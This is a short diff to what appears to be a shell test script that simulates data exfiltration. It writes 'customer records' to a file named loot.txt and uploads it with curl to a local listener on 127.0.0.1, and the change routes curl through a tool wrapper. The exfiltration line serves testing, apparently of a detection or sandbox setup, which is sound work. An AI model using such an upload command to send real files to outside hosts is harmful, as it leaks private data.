@@ -6,5 +6,5 @@ source "$(dirname "$0")/../lib/sim.sh"
 echo "customer records" > loot.txt
 listen --http
 port=$LISTEN_PORT
-curl -s --max-time 5 --data-binary @loot.txt "http://127.0.0.1:$port/upload" > /dev/null
+"$(tool curl)" -s --max-time 5 --data-binary @loot.txt "http://127.0.0.1:$port/upload" > /dev/null
 wait
